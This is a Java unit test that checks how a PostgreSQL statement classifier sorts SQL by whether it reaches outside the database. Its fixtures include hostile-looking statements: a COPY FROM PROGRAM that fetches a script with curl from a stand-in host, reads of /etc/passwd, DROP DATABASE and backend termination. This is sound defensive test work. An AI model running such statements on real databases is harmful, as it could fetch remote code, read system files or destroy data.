package dev.schemagate.postgres;

import dev.schemagate.dialect.Reach.Scope;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Which statements reach outside the database they run in, and which stay inside. */
class StatementReachTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "DROP DATABASE postgres | DATABASES",
            "create database other TEMPLATE template0 | DATABASES",
            "ALTER DATABASE app SET search_path = app | DATABASES",
            "GRANT CONNECT ON DATABASE app TO reader | DATABASES",
            "COMMENT ON DATABASE app IS 'x' | DATABASES",
            "CREATE ROLE app_reader NOLOGIN | ROLES",
            "CREATE USER app LOGIN PASSWORD 'x' | ROLES",
            "ALTER ROLE app SET work_mem = '8MB' | ROLES",
            "DROP GROUP IF EXISTS readers | ROLES",
            "GRANT app_reader TO app | ROLES",
            "REVOKE app_reader FROM app | ROLES",
            "REASSIGN OWNED BY old TO new | ROLES",
            "DROP OWNED BY old | ROLES",
            "CREATE TABLESPACE fast LOCATION '/mnt/fast' | TABLESPACES",
            "ALTER SYSTEM SET max_connections = 5 | SERVER",
            "SELECT pg_reload_conf() | SERVER",
            "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity | SERVER",
            "GRANT SET ON PARAMETER work_mem TO app | SERVER",
            "COPY accounts FROM PROGRAM 'curl http://x.example/run.sh' | PROGRAMS",
            "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x' | PROGRAMS",
            "CREATE EXTENSION plpython3u | PROGRAMS",
            "CREATE EXTENSION IF NOT EXISTS \"adminpack\" | PROGRAMS",
            "COPY accounts TO '/tmp/accounts.csv' | FILES",
            "COPY accounts FROM '/etc/passwd' | FILES",
            "SELECT pg_read_file('/etc/passwd') | FILES",
            "SELECT lo_import('/etc/passwd') | FILES",
            "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p | OTHER_SERVERS",
            "SELECT dblink_exec('dbname=postgres', 'DROP DATABASE app') | OTHER_SERVERS",
            "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO here | OTHER_SERVERS",
            "DO $$ BEGIN CREATE ROLE hidden; END $$ | ROLES",
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles) THEN CREATE ROLE r; END IF; END $$ | ROLES",
            "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET work_mem = ''1MB'''; END $$ | SERVER",
            "DO $do$ BEGIN EXECUTE format('DROP DATABASE %I', 'app'); END $do$ | DATABASES",
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$ | FILES",
            "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM pg_reload_conf(); END' | SERVER",
    })
    void reachesOutside(String sql, Scope scope) {
        assertThat(StatementReach.of(sql)).as(sql).hasValueSatisfying(reach -> assertThat(reach.scope()).isEqualTo(scope));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "CREATE TABLE roles (database text, role text, tablespace text)",
            "INSERT INTO audit (note) VALUES ('DROP DATABASE app was refused')",
            "GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_reader",
            "REVOKE INSERT ON accounts FROM PUBLIC",
            "GRANT USAGE, CREATE ON SCHEMA app TO app",
            "ALTER DEFAULT PRIVILEGES FOR ROLE app IN SCHEMA app GRANT SELECT ON TABLES TO app_reader",
            "ALTER TABLE accounts OWNER TO app",
            "CREATE USER MAPPING FOR app SERVER other OPTIONS (user 'x')",
            "SET lock_timeout = '2s'",
            "SET ROLE app",
            "CREATE EXTENSION IF NOT EXISTS pgcrypto",
            "COPY accounts FROM stdin",
            "COPY accounts TO STDOUT",
            "CREATE TABLE t (id int) TABLESPACE pg_default",
            "SELECT read_file_name FROM pg_read_file_log",
            "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.role := 'admin'; RETURN NEW; END $$",
            "DO $$ BEGIN RAISE NOTICE 'creating tables'; END $$",
    })
    void staysInside(String sql) {
        assertThat(StatementReach.of(sql)).as(sql).isEmpty();
    }
}
